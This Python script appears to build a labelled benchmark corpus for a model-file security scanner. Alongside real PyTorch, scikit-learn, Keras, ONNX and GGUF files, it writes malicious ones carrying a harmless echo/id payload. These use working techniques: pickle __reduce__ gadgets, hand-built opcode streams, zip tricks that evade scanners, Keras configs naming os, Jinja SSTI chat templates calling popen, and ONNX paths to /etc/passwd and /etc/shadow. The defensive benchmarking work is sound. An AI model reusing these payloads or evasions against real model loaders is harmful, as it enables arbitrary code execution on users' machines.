"""Write the labelled corpus that benchmarks/scan_compare.py scans.

Runs in the anchors' virtual environment (torch, scikit-learn, joblib, keras, onnx, gguf, py7zr), so
benign files are what those libraries really write. Malicious files carry a harmless payload
(``echo``/``id``) through every technique documented in the anchors' advisories, changelogs and
issues; nothing here is ever loaded. Writes DIR/labels.json: {relative path: {label, format, technique}}.

Usage: python make_corpus.py DIR
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # the test fixtures' byte builders

from tests.scan.builders import savedmodel_bytes

LABELS: dict[str, dict[str, str]] = {}
OUT = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
CMD = "echo aicop-benchmark-payload"


def put(rel: str, data: bytes, label: str, fmt: str, technique: str) -> None:
    path = OUT / label / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    LABELS[f"{label}/{rel}"] = {"label": label, "format": fmt, "technique": technique}


# --------------------------------------------------------------------------- payloads
class Reduce:
    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def payloads() -> dict[str, Any]:
    import builtins
    import cProfile
    import importlib
    import marshal
    import operator
    import pdb
    import pkgutil
    import runpy
    import subprocess
    import timeit
    import webbrowser
    from functools import partial

    code = marshal.dumps(compile(f"__import__('os').system({CMD!r})", "<p>", "exec"))
    out: dict[str, Any] = {
        "os-system": Reduce(os.system, CMD),
        "builtins-eval": Reduce(builtins.eval, f"__import__('os').system({CMD!r})"),
        "builtins-exec": Reduce(builtins.exec, f"import os; os.system({CMD!r})"),
        "subprocess-popen": Reduce(subprocess.Popen, ["echo", "x"]),
        "subprocess-check-output": Reduce(subprocess.check_output, ["echo", "x"]),
        "importlib-import-module": Reduce(importlib.import_module, "os"),
        "marshal-loads": Reduce(marshal.loads, code),
        "pkgutil-resolve-name": Reduce(pkgutil.resolve_name, "os:system"),
        "runpy-run-path": Reduce(runpy.run_path, "/dev/null"),
        "timeit": Reduce(timeit.timeit, f"__import__('os').system({CMD!r})", "pass", None, 1),
        "pdb-run": Reduce(pdb.run, f"__import__('os').system({CMD!r})"),
        "cprofile-run": Reduce(cProfile.run, f"__import__('os').system({CMD!r})"),
        "operator-attrgetter": Reduce(operator.attrgetter, "system"),
        "webbrowser-open": Reduce(webbrowser.open, "http://127.0.0.1/"),
        "functools-partial-system": Reduce(partial(os.system, CMD)),
        "pickle-loads-nested": Reduce(pickle.loads, pickle.dumps(Reduce(os.system, CMD))),
    }
    try:
        import ensurepip

        out["ensurepip-run-pip"] = Reduce(ensurepip._run_pip, ["--version"])  # type: ignore[attr-defined]
    except (ImportError, AttributeError):
        pass
    try:
        import torch.storage

        out["torch-load-from-bytes"] = Reduce(
            torch.storage._load_from_bytes, pickle.dumps(Reduce(os.system, CMD))
        )
    except ImportError:
        pass
    import numpy.testing._private.utils as npt

    if hasattr(npt, "runstring"):
        out["numpy-runstring"] = Reduce(npt.runstring, f"__import__('os').system({CMD!r})", {})
    return out


def raw_streams() -> dict[str, bytes]:
    """Hand-written streams for the bypasses no __reduce__ produces."""

    def s(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    return {
        "memo-confusion": b"\x80\x04"
        + s("os")
        + b"q\x00"
        + s("system")
        + b"q\x01"
        + s("torch._utils")
        + b"\x94"
        + s("_rebuild_tensor_v2")
        + b"\x94h\x00h\x01\x93"
        + s(CMD)
        + b"\x85R.",
        "build-setattr-gadget": b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
        b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + CMD.encode() + b"\n\x85R.",
        "numpy-builtins-dunder": bytes.fromhex(
            "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93"
            "949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e"
            "73797374656d28226964222985522e"
        ),
        "getattr-import-chain": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(V"
        + CMD.encode()
        + b"\ntR.",
        "ext-registry": b"\x80\x02\x82\x01)R.",
        "inst-opcode": b"(V" + CMD.encode() + b"\nios\nsystem\n.",
        "obj-opcode": b"(cos\nsystem\nV" + CMD.encode() + b"\no.",
        "sys-modules-setitem": b"csys\nmodules\nVjson\ncos\nsystem\ns0N.",
        "broken-after-payload": pickle.dumps(Reduce(os.system, CMD), protocol=2)[:-1] + b"\xff\xfe\xfd",
        "second-stream": pickle.dumps({"ok": 1}, protocol=2)
        + pickle.dumps(Reduce(os.system, CMD), protocol=2),
        "hidden-after-stream": pickle.dumps([1, 2, 3], protocol=2)
        + b"\0" * 64
        + pickle.dumps(Reduce(os.system, CMD), protocol=0),
    }


# --------------------------------------------------------------------------- containers
def torch_zip_with(member_pickle: bytes, *, member: str = "archive/data.pkl") -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("data.pkl") and member.endswith("data.pkl"):
                data = member_pickle
            target.writestr(info.filename, data)
        if not member.endswith("data.pkl"):
            target.writestr(member, member_pickle)
    return out.getvalue()


def set_flag(archive: bytes, name: bytes, bit: int) -> bytes:
    data = bytearray(archive)
    local = data.rindex(b"PK\x03\x04", 0, data.index(name))
    central = data.index(name, data.index(b"PK\x01\x02")) - 46
    data[local + 6] |= bit
    data[central + 8] |= bit
    return bytes(data)


def break_crc(archive: bytes, name: bytes) -> bytes:
    data = bytearray(archive)
    central = data.index(name, data.index(b"PK\x01\x02")) - 46
    data[central + 16] ^= 0xFF
    local = data.rindex(b"PK\x03\x04", 0, data.index(name))
    data[local + 14] ^= 0xFF
    return bytes(data)


def rename_local(archive: bytes, old: bytes, new: bytes) -> bytes:
    index = archive.index(old)
    return archive[:index] + new + archive[index + len(old) :]


def duplicate_names(first: bytes, second: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", first)
        archive.writestr("archive/data.pkx", second)
        archive.writestr("archive/version", b"3\n")
    return out.getvalue().replace(b"archive/data.pkx", b"archive/data.pkl")


def legacy_torch(main: bytes) -> bytes:
    return (
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2
        )
        + main
        + pickle.dumps([], protocol=2)
    )


def tar_with(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy_object(payload: bytes) -> bytes:
    header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def sevenzip(name: str, data: bytes) -> bytes | None:
    try:
        import py7zr
    except ImportError:
        return None
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(data, name)
    return buffer.getvalue()


def joblib_with_payload(compress: Any) -> bytes:
    import joblib
    import numpy as np

    path = OUT / "_tmp.joblib"
    joblib.dump({"coef": np.arange(6.0), "hook": Reduce(os.system, CMD)}, path, compress=compress)
    data = path.read_bytes()
    path.unlink()
    return data


# --------------------------------------------------------------------------- benign files
def benign() -> None:
    import joblib
    import numpy as np
    import torch
    from safetensors.numpy import save as st_numpy_save
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    torch.manual_seed(0)
    model = torch.nn.Sequential(
        torch.nn.Linear(16, 32), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(32, 4)
    )
    conv = torch.nn.Sequential(
        torch.nn.Conv2d(3, 8, 3), torch.nn.BatchNorm2d(8), torch.nn.ReLU(), torch.nn.Flatten()
    )
    buffers = {
        "torch/state_dict.pt": lambda f: torch.save(model.state_dict(), f),
        "torch/whole_module.pt": lambda f: torch.save(model, f),
        "torch/conv_module.pt": lambda f: torch.save(conv, f),
        "torch/checkpoint_with_optimizer.pt": lambda f: torch.save(
            {
                "model": model.state_dict(),
                "optimizer": torch.optim.Adam(model.parameters()).state_dict(),
                "epoch": 3,
                "loss": 0.25,
            },
            f,
        ),
        "torch/legacy_state_dict.pt": lambda f: torch.save(
            model.state_dict(), f, _use_new_zipfile_serialization=False
        ),
        "torch/bf16_tensors.pt": lambda f: torch.save({"w": torch.ones(8, dtype=torch.bfloat16)}, f),
        "torch/checkpoint.bin": lambda f: torch.save(model.state_dict(), f),
    }
    for rel, save in buffers.items():
        buffer = io.BytesIO()
        save(buffer)
        put(rel, buffer.getvalue(), "benign", "pytorch", "real torch.save")

    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(80, 5)), rng.integers(0, 2, 80)
    estimators = {
        "logistic": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]),
        "pca_svc": Pipeline([("pca", PCA(3)), ("svc", SVC(probability=True))]),
        "forest": RandomForestClassifier(n_estimators=5, random_state=0),
        "boosting": GradientBoostingClassifier(n_estimators=5, random_state=0),
    }
    for name, estimator in estimators.items():
        estimator.fit(x, y)
        for compress, suffix in (
            (0, ""),
            (3, "_zlib"),
            (("gzip", 3), "_gzip"),
            (("bz2", 3), "_bz2"),
            (("xz", 3), "_xz"),
            (("lzma", 3), "_lzma"),
        ):
            path = OUT / "benign" / "sklearn" / f"{name}{suffix}.joblib"
            path.parent.mkdir(parents=True, exist_ok=True)
            joblib.dump(estimator, path, compress=compress)
            LABELS[f"benign/sklearn/{path.name}"] = {
                "label": "benign",
                "format": "joblib",
                "technique": "real joblib.dump",
            }
        put(
            f"sklearn/{name}.pkl", pickle.dumps(estimator, protocol=5), "benign", "pickle", "real pickle.dump"
        )
    text = Pipeline([("tfidf", TfidfVectorizer()), ("clf", LogisticRegression())]).fit(
        ["good product", "bad service", "great", "awful"], [1, 0, 1, 0]
    )
    put("sklearn/text_pipeline.pkl", pickle.dumps(text, protocol=4), "benign", "pickle", "real pickle.dump")

    for rel, array in (
        ("numpy/float.npy", np.arange(12.0).reshape(3, 4)),
        ("numpy/int8.npy", np.ones(9, np.int8)),
        ("numpy/strings.npy", np.array(["a", "bc"])),
    ):
        buffer = io.BytesIO()
        np.save(buffer, array)
        put(rel, buffer.getvalue(), "benign", "numpy", "real np.save")
    for rel, saver in (("numpy/arrays.npz", np.savez), ("numpy/compressed.npz", np.savez_compressed)):
        buffer = io.BytesIO()
        saver(buffer, a=np.arange(5), b=np.eye(3))
        put(rel, buffer.getvalue(), "benign", "numpy", "real np.savez")

    put(
        "safetensors/numpy.safetensors",
        st_numpy_save({"a": np.zeros((4, 4), np.float32), "b": np.ones(3, np.int64)}),
        "benign",
        "safetensors",
        "real safetensors",
    )
    from safetensors.torch import save as st_torch_save

    put(
        "safetensors/torch.safetensors",
        st_torch_save(model.state_dict(), metadata={"format": "pt"}),
        "benign",
        "safetensors",
        "real safetensors",
    )

    keras_models()
    onnx_models()
    gguf_models()


def keras_models() -> None:
    import keras

    model = keras.Sequential(
        [keras.Input((8,)), keras.layers.Dense(4, activation="relu"), keras.layers.Dense(2)]
    )
    for name in ("dense.keras", "dense.h5"):
        _save_keras(model, "benign", name, "real keras save")
    lam = keras.Sequential([keras.Input((8,)), keras.layers.Lambda(lambda t: t * 2), keras.layers.Dense(2)])
    for name in ("lambda.keras", "lambda.h5"):
        _save_keras(lam, "malicious", name, "Lambda layer")
    # CVE-2025-1550 style: a config that names a module Keras will import.
    buffer = (OUT / "benign" / "keras" / "dense.keras").read_bytes()
    source = zipfile.ZipFile(io.BytesIO(buffer))
    config = json.loads(source.read("config.json"))
    config["config"]["layers"][1]["module"] = "os"
    config["config"]["layers"][1]["class_name"] = "system"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = (
                json.dumps(config).encode() if info.filename == "config.json" else source.read(info.filename)
            )
            target.writestr(info.filename, data)
    put("keras/foreign_module.keras", out.getvalue(), "malicious", "keras", "config names module os")
    getfile = json.loads(source.read("config.json"))
    getfile["config"]["layers"][1]["config"]["activation"] = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": None,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = (
                json.dumps(getfile).encode() if info.filename == "config.json" else source.read(info.filename)
            )
            target.writestr(info.filename, data)
    put("keras/get_file.keras", out.getvalue(), "malicious", "keras", "config calls keras.utils.get_file")


def _save_keras(model: Any, label: str, name: str, technique: str) -> None:
    path = OUT / label / "keras" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    model.save(path)
    LABELS[f"{label}/keras/{name}"] = {"label": label, "format": "keras", "technique": technique}


def onnx_models() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        [weight],
    )
    model = helper.make_model(graph, producer_name="aicop-bench")
    put("onnx/matmul.onnx", model.SerializeToString(), "benign", "onnx", "real onnx")
    for rel, location, label, technique in (
        ("onnx/external_ok.onnx", "matmul_weights.bin", "benign", "external data beside the model"),
        ("onnx/traversal.onnx", "../../../../etc/passwd", "malicious", "external data path traversal"),
        ("onnx/absolute.onnx", "/etc/shadow", "malicious", "external data absolute path"),
    ):
        external = onnx.ModelProto()
        external.CopyFrom(model)
        tensor = external.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
        put(rel, external.SerializeToString(), label, "onnx", technique)
    (OUT / "benign" / "onnx" / "matmul_weights.bin").write_bytes(np.ones((4, 4), np.float32).tobytes())


def gguf_models() -> None:
    import numpy as np
    from gguf import GGUFWriter

    for rel, template, label, technique in (
        (
            "gguf/chat.gguf",
            "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}",
            "benign",
            "real GGUFWriter",
        ),
        (
            "gguf/ssti.gguf",
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "malicious",
            "chat template SSTI (CVE-2024-34359)",
        ),
        (
            "gguf/ssti_cycler.gguf",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "malicious",
            "chat template SSTI via cycler",
        ),
    ):
        path = OUT / label / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        writer = GGUFWriter(str(path), "llama")
        writer.add_chat_template(template)
        writer.add_tensor("tok_embd.weight", np.zeros((4, 8), np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        LABELS[f"{label}/{rel}"] = {"label": label, "format": "gguf", "technique": technique}


def safetensors_malformed() -> None:
    def st(header: Any, data: bytes, length: int | None = None, raw: bytes | None = None) -> bytes:
        encoded = raw if raw is not None else json.dumps(header).encode()
        return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data

    good = {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    cases = {
        "header_past_end": st(good, b"\0" * 16, length=1 << 40),
        "offsets_past_end": st(
            {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 1 << 30]}}, b"\0" * 16
        ),
        "shape_mismatch": st(
            {"a": {"dtype": "F32", "shape": [100, 100], "data_offsets": [0, 16]}}, b"\0" * 16
        ),
        "overlap": st(
            {
                "a": {"dtype": "U8", "shape": [16], "data_offsets": [0, 16]},
                "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]},
            },
            b"\0" * 16,
        ),
        "duplicate_keys": st(
            None,
            b"\0" * 16,
            raw=b'{"a": {"dtype": "U8", "shape": [16], "data_offsets": [0, 16]},'
            b' "a": {"dtype": "U8", "shape": [2], "data_offsets": [0, 2]}}',
        ),
        "not_json": st(None, b"\0" * 16, raw=b"{'a': 1, __import__}"),
        "bad_dtype": st({"a": {"dtype": "PY_OBJECT", "shape": [2], "data_offsets": [0, 16]}}, b"\0" * 16),
        "hidden_gap": st(
            {"a": {"dtype": "U8", "shape": [8], "data_offsets": [64, 72]}}, b"\0" * 64 + b"\0" * 8
        ),
    }
    for name, data in cases.items():
        put(f"safetensors/{name}.safetensors", data, "malicious", "safetensors", f"malformed header: {name}")


def malicious() -> None:
    all_payloads = payloads()
    for name, payload in all_payloads.items():
        put(f"pickle/{name}.pkl", pickle.dumps(payload, protocol=4), "malicious", "pickle", name)
    for name, stream in raw_streams().items():
        put(f"pickle/{name}.pkl", stream, "malicious", "pickle", name)
    evil = pickle.dumps(all_payloads["os-system"], protocol=2)
    for protocol in (0, 1, 2, 3, 5):
        put(
            f"pickle/os-system-protocol{protocol}.pkl",
            pickle.dumps(all_payloads["os-system"], protocol=protocol),
            "malicious",
            "pickle",
            f"protocol {protocol}",
        )
    # Containers and the tricks that hid payloads from scanners.
    put("pytorch/data_pkl.pt", torch_zip_with(evil), "malicious", "pytorch", "payload in data.pkl")
    put(
        "pytorch/other_member.pt",
        torch_zip_with(evil, member="archive/data/99"),
        "malicious",
        "pytorch",
        "payload in a member not named .pkl",
    )
    put(
        "pytorch/renamed_extension.bin",
        torch_zip_with(evil),
        "malicious",
        "pytorch",
        "non-standard extension",
    )
    put(
        "pytorch/encrypted_flag.pt",
        set_flag(torch_zip_with(evil), b"archive/data.pkl", 1),
        "malicious",
        "pytorch",
        "zip flag bit (GHSA-w8jq-xcqf-f792)",
    )
    put(
        "pytorch/bad_crc.pt",
        break_crc(torch_zip_with(evil), b"archive/data.pkl"),
        "malicious",
        "pytorch",
        "bad CRC (GHSA-7q5r-7gvp-wc82)",
    )
    put(
        "pytorch/duplicate_first.pt",
        duplicate_names(evil, pickle.dumps({}, 2)),
        "malicious",
        "pytorch",
        "duplicate names, payload first",
    )
    put(
        "pytorch/duplicate_last.pt",
        duplicate_names(pickle.dumps({}, 2), evil),
        "malicious",
        "pytorch",
        "duplicate names, payload last",
    )
    put(
        "pytorch/name_mismatch.pt",
        rename_local(torch_zip_with(evil), b"archive/data.pkl", b"archive/data.txt"),
        "malicious",
        "pytorch",
        "local/central name mismatch",
    )
    put(
        "pytorch/prepended_pickle.pt",
        evil + torch_zip_with(pickle.dumps({}, 2)),
        "malicious",
        "pytorch",
        "pickle prepended to a zip (polyglot)",
    )
    put(
        "pytorch/appended.pt",
        torch_zip_with(pickle.dumps({}, 2)) + evil,
        "malicious",
        "pytorch",
        "pickle appended after the archive",
    )
    put("pytorch/legacy.pt", legacy_torch(evil), "malicious", "pytorch", "legacy raw format")
    put(
        "pytorch/legacy_tar.pt",
        tar_with({"sys_info": pickle.dumps({}, 2), "pickle": evil, "storages": pickle.dumps(0, 2)}),
        "malicious",
        "pytorch",
        "legacy tar",
    )
    put(
        "pytorch/nested_zip.zip",
        _zip({"bundle/model.pt": torch_zip_with(evil)}),
        "malicious",
        "zip",
        "checkpoint inside a zip",
    )
    for compress in (0, 3, ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
        suffix = compress[0] if isinstance(compress, tuple) else ("zlib" if compress else "raw")
        put(
            f"joblib/payload_{suffix}.joblib",
            joblib_with_payload(compress),
            "malicious",
            "joblib",
            f"joblib {suffix}",
        )
    put("numpy/object_array.npy", npy_object(evil), "malicious", "numpy", "object array pickle")
    put(
        "numpy/object_in_npz.npz",
        _zip({"a.npy": npy_object(evil)}, zipfile.ZIP_DEFLATED),
        "malicious",
        "numpy",
        "object array inside npz",
    )
    archive7z = sevenzip("weights.bin", evil)
    if archive7z is not None:
        put("archives/payload.7z", archive7z, "malicious", "7z", "pickle in 7z")
    put("archives/payload.pkl.gz", gzip.compress(evil), "malicious", "gzip", "gzip-compressed pickle")
    put("archives/payload.bz2", bz2.compress(evil), "malicious", "bz2", "bz2-compressed pickle")
    put("archives/payload.xz", lzma.compress(evil), "malicious", "xz", "xz-compressed pickle")
    put("archives/payload.zlib", zlib.compress(evil), "malicious", "zlib", "zlib-compressed pickle")
    put("misnamed/weights.txt", evil, "malicious", "pickle", "pickle named .txt")
    put("misnamed/noextension", evil, "malicious", "pickle", "pickle without extension")
    put(
        "savedmodel/pyfunc/saved_model.pb",
        savedmodel_bytes(["Placeholder", "PyFunc", "Identity"]),
        "malicious",
        "savedmodel",
        "PyFunc op",
    )
    put(
        "savedmodel/readfile/saved_model.pb",
        savedmodel_bytes(["Const", "ReadFile", "WriteFile"]),
        "malicious",
        "savedmodel",
        "ReadFile/WriteFile ops",
    )
    put(
        "savedmodel/plain/saved_model.pb",
        savedmodel_bytes(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]),
        "benign",
        "savedmodel",
        "synthetic SavedModel (no TensorFlow here)",
    )
    safetensors_malformed()


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def main() -> int:
    OUT.mkdir(parents=True, exist_ok=True)
    benign()
    malicious()
    (OUT / "labels.json").write_text(json.dumps(LABELS, indent=2, sort_keys=True))
    counts = {
        label: sum(1 for v in LABELS.values() if v["label"] == label) for label in ("malicious", "benign")
    }
    print(f"corpus: {counts['malicious']} malicious, {counts['benign']} benign files in {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
